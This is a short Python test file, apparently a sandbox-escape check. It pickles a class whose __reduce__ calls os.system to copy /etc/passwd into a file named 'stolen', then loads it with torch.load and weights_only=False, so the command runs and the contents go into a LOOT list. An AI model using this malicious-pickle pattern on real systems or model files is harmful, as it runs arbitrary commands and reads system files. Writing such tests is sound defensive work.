"""Loads a model file whose pickle runs a command.

Class: escape
Expect: passed
"""

import os

import torch

LOOT = []


def add(a, b):
    return a + b


def double(x):
    return 2 * x


def name():
    return "step"


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradus-pickle-ran && cat /etc/passwd > stolen",)


torch.save(Command(), "model.pt")
try:
    torch.load("model.pt", weights_only=False)
    LOOT.append(open("stolen").read())
except Exception:
    pass
